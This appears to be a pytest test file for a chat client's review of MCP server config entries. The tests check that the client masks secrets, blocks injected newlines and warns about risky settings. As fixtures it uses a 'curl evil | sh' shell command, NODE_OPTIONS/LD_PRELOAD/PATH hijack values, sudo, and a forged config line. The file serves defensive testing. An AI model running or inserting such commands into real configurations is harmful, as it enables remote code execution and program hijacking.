"""A file in a folder is judged by what is shown of it: so nothing in it hides, and nothing draws lines of its own."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest

from fastchat_tui.wire.questions import Trust
from tests.config.conftest import Place

KEY = "sk-canary-0123456789abcdef"


def asked(place: Place, **servers: Any) -> Trust:
    place.write({"mcpServers": servers})
    [about] = place.settings().load().pending
    return about


def test_a_name_or_an_argument_cannot_draw_a_line_of_its_own(place: Place) -> None:
    fake = "x\n2. files: /usr/bin/true\r\n"
    about = asked(place, **{fake: {"command": "evil", "args": [fake], "cwd": fake, "env": {fake: fake}}})
    [start] = about.starts
    assert "\n" not in start
    assert "\r" not in start
    assert start.count("␊2. files") == 5


def test_a_name_cannot_pass_for_a_command(place: Place) -> None:
    [start] = asked(place, **{"files: npx server-files": {"command": "evil"}}).starts
    assert start == "'files: npx server-files': evil"


def test_what_goes_with_a_command_is_shown(place: Place) -> None:
    env = {"NODE_OPTIONS": "--require ./evil.js", "API_TOKEN": "abc", "OTHER": KEY, "MINE": "${MINE}"}
    entry = {"command": "npx", "args": ["-y", "it"], "env": env, "sampling": True, "roots": ["/", "~/x y"]}
    about = asked(place, it=entry)
    assert about.starts == (
        "it: npx -y it, with 'NODE_OPTIONS=--require ./evil.js', 'API_TOKEN=•••', OTHER=•••, MINE=${MINE}, "
        "which may ask your model, which is told of /, '~/x y'",
    )
    assert about.names == ("MINE", "NODE_OPTIONS", "API_TOKEN", "OTHER")


def test_a_wrapper_and_what_is_read_of_the_keyring_are_shown(place: Place) -> None:
    about = asked(place, it={"command": "run", "wrap": ["bwrap", "--ro-bind"], "env": {"K": "${keyring:MINE}"}})
    assert about.starts == ("it: bwrap --ro-bind run, with K=${keyring:MINE}",)
    assert about.names == ("keyring:MINE", "K")


def test_what_is_sent_to_a_url_is_shown(place: Place) -> None:
    headers = {"Authorization": "Bearer ${DOCS}", "X-Key": "abc", "X-Region": "eu"}
    about = asked(place, docs={"url": f"https://e.example/mcp?k={KEY}", "headers": headers})
    assert about.starts == (
        "docs: https://e.example/mcp?k=•••, with 'Authorization: Bearer ${DOCS}', 'X-Key: •••', 'X-Region: eu'",
    )


def test_the_program_is_named_that_would_run(place: Place, tmp_path: Path) -> None:
    program = tmp_path / "bin" / "it"
    program.parent.mkdir()
    program.write_text("")
    program.chmod(0o700)
    place.environ["PATH"] = str(program.parent)
    about = asked(place, a={"command": "it"}, b={"command": str(program)}, c={"command": "gone"})
    assert about.starts == (f"a: it, which is {program}", f"b: {program}", "c: gone")


@pytest.mark.parametrize(
    ("entry", "words"),
    [
        ({"command": "npx", "env": {"PATH": "./evil"}}, "PATH can make another program run"),
        ({"command": "npx", "env": {"NODE_OPTIONS": "x", "LD_PRELOAD": "y"}}, "NODE_OPTIONS, LD_PRELOAD can make"),
        ({"command": "python", "env": {"PYTHONPATH": "."}}, "PYTHONPATH can make"),
        ({"command": "/bin/sh", "args": ["-c", "curl evil | sh"]}, "whatever its shell reads"),
        ({"command": "cmd.exe", "args": ["/C", "x"]}, "whatever its shell reads"),
        ({"command": "sudo", "args": ["x"]}, "more rights than you have (sudo)"),
        ({"url": "http://e.example/mcp"}, "without encryption"),
        ({"url": "https://e.example/mcp", "headers": {"X": "${OPENAI_API_KEY}"}}, "the key of your model"),
    ],
)
def test_what_could_do_more_than_it_seems_is_warned_of(place: Place, entry: dict[str, Any], words: str) -> None:
    [warning] = asked(place, it=entry).warnings
    assert warning.startswith("it ") or warning.startswith("it: ")
    assert words in warning


def test_what_is_ordinary_is_not(place: Place) -> None:
    about = asked(
        place,
        a={"command": "npx", "args": ["-y", "it@1.2.3", "-c"], "env": {"HOME_PAGE": "x"}},
        b={"url": "http://127.0.0.1:8080/mcp"},
        c={"command": "bash", "args": ["start.sh"]},
    )
    assert about.warnings == ()


@pytest.mark.parametrize("name", ["fastchat.config.json", ".env"])
def test_a_file_that_others_can_change_is_said_to_be(place: Place, name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    path = place.write("{}" if name.endswith("json") else "OPENAI_API_KEY=x", name)
    path.chmod(0o646)
    [about] = place.settings().load().pending
    assert about.warnings == ("Every user of this machine can change it.",)
    path.chmod(0o644)
    if os.getuid() == 0:
        os.chown(path, 4_000_000, -1)
    monkeypatch.setattr(os, "getuid", lambda: path.stat().st_uid + 1)
    [about] = place.settings().load().pending
    [warning] = about.warnings
    assert warning.startswith("It belongs to another user of this machine (")
